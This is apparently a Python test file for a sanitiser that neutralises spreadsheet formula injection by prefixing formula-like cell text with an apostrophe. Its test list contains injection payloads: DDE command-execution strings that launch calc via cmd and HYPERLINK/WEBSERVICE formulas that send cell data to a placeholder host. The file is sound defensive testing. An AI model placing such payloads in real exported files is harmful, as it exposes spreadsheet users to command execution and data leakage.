import pytest
from hypothesis import given
from hypothesis import strategies as st

from intake.cell_text import MAX_CELL_CHARACTERS, is_formula_like, safe_text

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
    '=WEBSERVICE("http://example.invalid/")',
    '=DDE("cmd","/C calc","x")',
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "  =1",
    "\u3000=1",
    "\xa0=1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
]
HARMLESS = [
    "",
    " ",
    "张三",
    "a=b",
    "3-1",
    "330299198001010019",
    "'=1",
    '"=1',
    "(=1)",
    "·=",
    "cmd|' /C calc'!A0",
    "%0A=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_program_may_evaluate_gets_an_apostrophe(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_every_other_text_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@＝＋\t\r\n '\u200b\ufeff\u3000a张1"), max_size=12) | st.text())
def test_nothing_formula_like_comes_out_and_nothing_is_lost(text: str) -> None:
    shown = safe_text(text)

    assert not is_formula_like(shown)
    assert shown.removeprefix("'") == text.removeprefix("'")
    assert safe_text(shown) == shown


def test_a_text_fits_into_a_cell() -> None:
    assert len(safe_text("=" * MAX_CELL_CHARACTERS)) == MAX_CELL_CHARACTERS
    assert safe_text("x" * MAX_CELL_CHARACTERS) == "x" * MAX_CELL_CHARACTERS
